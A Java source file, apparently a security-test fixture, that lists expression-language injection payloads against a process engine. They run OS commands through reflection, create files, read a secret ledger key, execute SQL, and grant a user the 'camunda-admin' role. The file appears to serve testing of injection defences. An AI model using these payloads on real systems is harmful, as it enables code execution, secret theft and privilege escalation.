package com.targettoclose.attack;

import java.util.List;

/** Code that an attacker would like to see run. Each leaves a file behind, tells a secret or changes who is who. */
final class Code {

    /** Runs a command of the operating system, by reflection from a text. */
    static final String COMMAND = "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime')"
            + ".invoke(null).exec('touch @marker@').waitFor()}";

    /** The same in a script. */
    static final String SCRIPT = "new java.io.File('@marker@').createNewFile()";

    /** The ways an expression gets out of what it is for. */
    static final List<String> EXPRESSIONS = List.of(
            COMMAND,
            COMMAND.replace("${", "#{"),
            "${\\\"\\\".class.forName('java.nio.file.Files')}",
            "${environment.getProperty('t2c.ledger.key')}",
            "${dataSource.connection.createStatement().execute('create table t2c_evil as select 1 as x')}",
            "${identityService.createMembership('rep1','camunda-admin')}",
            "${processEngine.identityService.createMembership('rep1','camunda-admin')}",
            "${task.execution.processEngineServices.identityService.createMembership('rep1','camunda-admin')}",
            "${now().getClass().classLoader}",
            "${currentUser().concat('')}");

    private Code() {}
}
